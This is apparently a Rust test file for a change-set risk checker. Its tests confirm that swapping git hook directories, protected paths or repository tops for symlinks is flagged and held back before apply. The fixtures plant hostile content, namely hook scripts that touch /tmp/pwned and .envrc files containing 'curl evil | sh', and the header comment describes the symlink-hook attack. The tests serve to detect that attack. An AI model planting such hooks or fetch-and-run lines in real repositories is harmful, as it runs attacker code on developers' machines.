//! A path the judge guards, reached through a directory above it that the set swaps. Found by an
//! attacker's review: a run copied `.husky` (or `config/`) aside, wrote the hook (or the missing
//! read-only file) into the copy, and replaced the original by a symlink to it. Only changes at or
//! below the guarded path were judged, so nothing was a risk: apply landed the link, and the host's
//! `git commit` ran the planted hook. What matters is where the path leads after apply.

use super::*;
use crate::planted::RiskKind;

/// A host repository at the top with `core.hooksPath` set to `hooks_path` (none: husky's default
/// `.husky` only) and the hooks directory `dir` made, holding a hook.
fn hooked(hooks_path: Option<&str>, dir: &str) -> Fixture {
    let mut f = fixture();
    put(&f.ws, &format!("{dir}/pre-commit"), "npm test\n");
    let config = match hooks_path {
        Some(p) => format!("[core]\n\tbare = false\n\thooksPath = {p}\n"),
        None => "[core]\n\tbare = false\n".into(),
    };
    host_repo(&mut f);
    put(&f.ws, ".git/config", &config);
    f
}

/// The set replaces `swapped` by a symlink to a copy holding `hook` below it.
fn swap_for_link(f: &Fixture, swapped: &str, hook: &str) {
    let up = f.set.upper(0);
    std::fs::create_dir_all(up.join(swapped).parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(f.ws.join("build-cache"), up.join(swapped)).unwrap();
    put(&up, &format!("build-cache/{hook}"), "#!/bin/sh\ntouch /tmp/pwned\n");
}

fn has(risks: &[(String, RiskKind)], path: &str, kind: RiskKind) -> bool {
    risks.iter().any(|(p, k)| p == path && *k == kind)
}

#[test]
fn a_hooks_directory_or_one_above_it_swapped_for_a_symlink_is_a_risk() {
    // (core.hooksPath, the hooks directory, what the set swaps, the hook in the copy)
    let cases = [
        (None, ".husky", ".husky", "pre-commit"),
        (Some(".husky/_"), ".husky/_", ".husky", "_/pre-commit"),
        (Some("tools/hooks"), "tools/hooks", "tools", "hooks/pre-commit"),
        (Some("tools/hooks"), "tools/hooks", "tools/hooks", "pre-commit"),
        (Some("./tools/hooks"), "tools/hooks", "tools/hooks", "pre-commit"),
    ];
    for (hooks_path, dir, swapped, hook) in cases {
        let f = hooked(hooks_path, dir);
        swap_for_link(&f, swapped, hook);
        let risks = risks_of(&f);
        let at = format!("/{swapped}");
        assert!(has(&risks, &at, RiskKind::HooksWritten), "{hooks_path:?} {swapped}: {risks:?}");
        let out = apply(&f.set, &f.lock, &Request { paths: None, force: false }).unwrap();
        assert!(out.held_back.iter().any(|h| h.risk.path == f.ws.join(swapped).to_string_lossy()), "{out:?}");
        assert!(f.ws.join(dir).symlink_metadata().unwrap().is_dir(), "{swapped}: the host's hooks directory stays");
        assert_eq!(std::fs::read_to_string(f.ws.join(dir).join("pre-commit")).unwrap(), "npm test\n");
    }
}

#[test]
fn a_hooks_directory_deleted_or_replaced_by_a_file_is_a_risk() {
    for file in [false, true] {
        let f = hooked(Some("tools/hooks"), "tools/hooks");
        let up = f.set.upper(0);
        std::fs::create_dir_all(up.join("tools")).unwrap();
        if file {
            put(&up, "tools/hooks", "not a directory\n");
        } else {
            whiteout(&up.join("tools/hooks"));
        }
        assert!(has(&risks_of(&f), "/tools/hooks", RiskKind::HooksWritten), "{:?}", risks_of(&f));
    }
}

#[test]
fn hooks_written_through_a_symlink_the_host_has_are_a_risk() {
    // The host's `.husky` is a link to `build-cache` already: the set writes the hook there.
    let mut f = fixture();
    put(&f.ws, "build-cache/_/husky.sh", "");
    std::os::unix::fs::symlink("build-cache", f.ws.join(".husky")).unwrap();
    host_repo(&mut f);
    put(&f.ws, ".git/config", "[core]\n\thooksPath = .husky/_\n");
    put(&f.set.upper(0), "build-cache/_/pre-commit", "#!/bin/sh\ntouch /tmp/pwned\n");
    let risks = risks_of(&f);
    assert!(risks.iter().any(|(p, k)| p.starts_with("/build-cache") && *k == RiskKind::HooksWritten), "{risks:?}");
}

#[test]
fn a_hooks_directory_made_or_its_mode_changed_is_no_risk() {
    let f = hooked(Some("tools/hooks"), "tools/hooks");
    let up = f.set.upper(0);
    std::fs::create_dir_all(up.join("tools/hooks")).unwrap();
    std::fs::set_permissions(up.join("tools/hooks"), std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::create_dir_all(up.join(".husky")).unwrap();
    put(&up, "tools/README", "docs\n");
    assert_eq!(risks_of(&f), []);
}

#[test]
fn a_held_paths_parent_swapped_for_a_symlink_is_a_risk() {
    for how in ["symlink", "whiteout", "file"] {
        let mut f = fixture();
        put(&f.ws, "config/base.json", "{}");
        begin_now(&mut f);
        f.set.meta.held = vec![f.ws.join("config/production.json")];
        let up = f.set.upper(0);
        match how {
            "symlink" => {
                std::os::unix::fs::symlink("config.d", up.join("config")).unwrap();
                put(&up, "config.d/production.json", "{\"evil\":1}");
            }
            "whiteout" => whiteout(&up.join("config")),
            _ => put(&up, "config", "x"),
        }
        let risks = risks_of(&f);
        assert!(has(&risks, "/config", RiskKind::ProtectedNameCreated), "{how}: {risks:?}");
        let out = apply(&f.set, &f.lock, &Request { paths: None, force: false }).unwrap();
        assert!(f.ws.join("config").symlink_metadata().unwrap().is_dir(), "{how}: {out:?}");
        assert!(!f.ws.join("config/production.json").exists());
    }
}

#[test]
fn a_repository_top_swapped_for_a_symlink_is_a_risk() {
    // The names judged at a repository's top (`.envrc`) would be what the link's target holds.
    for protect_git in [true, false] {
        let mut f = fixture();
        f.set.meta.protect_git = protect_git;
        put(&f.ws, "sub/.git/HEAD", "ref: refs/heads/main\n");
        put(&f.ws, "sub/src/a.c", "");
        begin_now(&mut f);
        let up = f.set.upper(0);
        std::os::unix::fs::symlink("sub2", up.join("sub")).unwrap();
        put(&up, "sub2/.envrc", "curl evil | sh\n");
        let risks = risks_of(&f);
        assert!(risks.iter().any(|(p, _)| p == "/sub"), "protectGit {protect_git}: {risks:?}");
    }
}

/// The host's `.envrc` is a link into `shared/`.
fn envrc_linked() -> Fixture {
    let mut f = fixture();
    put(&f.ws, "shared/envrc", "export A=1\n");
    std::os::unix::fs::symlink("shared/envrc", f.ws.join(".envrc")).unwrap();
    begin_now(&mut f);
    f
}

#[test]
fn a_protected_name_is_judged_where_a_symlink_on_the_host_leads() {
    // What the set writes where the link leads is what direnv runs.
    let f = envrc_linked();
    put(&f.set.upper(0), "shared/envrc", "curl evil | sh\n");
    assert!(has(&risks_of(&f), "/shared/envrc", RiskKind::ProtectedNameCreated), "{:?}", risks_of(&f));
    // Its directory swapped is too (a set applied in part keeps the host's link); the name itself
    // deleted runs nothing.
    let f = envrc_linked();
    std::os::unix::fs::symlink("elsewhere", f.set.upper(0).join("shared")).unwrap();
    whiteout(&f.set.upper(0).join(".envrc"));
    assert_eq!(risks_of(&f), [("/shared".to_string(), RiskKind::ProtectedNameCreated)]);
}
